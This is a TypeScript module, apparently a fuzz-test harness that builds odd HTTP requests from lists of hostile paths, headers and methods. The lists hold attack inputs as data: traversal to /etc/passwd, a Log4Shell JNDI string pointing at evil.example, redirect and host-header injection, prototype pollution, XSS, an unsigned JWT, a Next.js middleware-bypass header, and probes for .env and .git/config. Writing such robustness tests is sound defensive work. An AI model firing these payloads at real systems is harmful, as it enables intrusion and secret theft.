import { randomNumbers, type Shot } from './shot.ts';

/** Paths that try to leave a folder, to be confused with another path, or to redirect elsewhere. */
export const oddPaths: readonly string[] = [
	'/..%2f..%2f..%2fetc/passwd',
	'/%2e%2e/%2e%2e/etc/passwd',
	'/....//....//etc/passwd',
	'//evil.example/',
	'/\\evil.example',
	'/.//evil.example',
	'/%5cevil.example',
	'/%00',
	'/a%00b',
	'/%ff%fe',
	'/%',
	'/%zz',
	'/%2',
	`/${'a'.repeat(7_000)}`,
	`/${'a/'.repeat(2_000)}`,
	`/?${'a=1&'.repeat(1_500)}`,
	'/?__proto__[x]=1&constructor[prototype][x]=1',
	'/?a[]=1&a[b]=2&a=3',
	'/.env',
	'/.git/config',
	'/package.json',
	'/node_modules/payload/package.json',
	'/server-status',
	'/wp-login.php',
	'/;/admin',
	'/*',
	'/~root',
	"/'--",
	'/<script>alert(1)</script>',
	'/{{7*7}}',
	'/%24%7Bjndi:ldap://evil.example%7D',
];

const oddHeaders: readonly Record<string, string>[] = [
	{ cookie: '%' },
	{ cookie: 'payload-token=x; payload-token=y; =; a' },
	{ cookie: `a=${'b'.repeat(6_000)}` },
	{ authorization: 'JWT eyJhbGciOiJub25lIn0.eyJpZCI6MSwiY29sbGVjdGlvbiI6InVzZXJzIn0.' },
	{ authorization: 'users API-Key x' },
	{ authorization: 'Bearer' },
	{ authorization: `Bearer ${'x'.repeat(5_000)}` },
	{ 'accept-language': 'xx-yy;q=abc, *;q=99, ,,,;' },
	{ 'accept-language': 'a,'.repeat(2_000) },
	{ 'accept-encoding': 'gzip;q=x, br;q=-1, *;q=0' },
	{ accept: '*/*;q=zzz, text/html;level=1' },
	{ range: 'bytes=99999999999-1' },
	{ range: 'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7' },
	{ range: 'bytes=-' },
	{ 'if-none-match': '"'.repeat(500) },
	{ 'if-modified-since': 'yesterday' },
	{ host: 'evil.example' },
	{ 'x-forwarded-host': 'evil.example' },
	{ 'x-forwarded-for': '127.0.0.1, not-an-address' },
	{ 'x-forwarded-proto': 'gopher' },
	{ 'x-http-method-override': 'DELETE' },
	{ 'x-middleware-subrequest': 'src/proxy:src/proxy:src/proxy:src/proxy:src/proxy' },
	{ 'x-preview-token': '9'.repeat(400) },
	{ 'x-request-id': '<>"'.repeat(200) },
	{ traceparent: '00-zz-zz-zz' },
	{ 'next-action': 'x'.repeat(40) },
	{ rsc: '1', 'next-router-state-tree': '%5B' },
	{ 'content-type': 'multipart/form-data' },
	{ origin: 'null', 'access-control-request-method': 'DELETE' },
	{ expect: 'nothing' },
];

const methods = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND'];

/** Odd paths with every method, and the given paths with each odd header and with other methods. */
export function commonShots(paths: readonly string[]): Shot[] {
	const random = randomNumbers(7);
	const withBody = (method: string): Pick<Shot, 'body'> =>
		method === 'GET' || method === 'HEAD' ? {} : { body: random() < 0.5 ? '{' : '' };
	const oddPathShots = oddPaths.flatMap((path) =>
		methods.map((method) => ({ method, path, ...withBody(method) })),
	);
	const oddHeaderShots = paths.flatMap((path) =>
		oddHeaders.map((headers) => ({ method: 'GET', path, headers })),
	);
	const methodShots = paths.flatMap((path) =>
		methods.slice(2).map((method) => ({ method, path, ...withBody(method) })),
	);
	return [...oddPathShots, ...oddHeaderShots, ...methodShots];
}
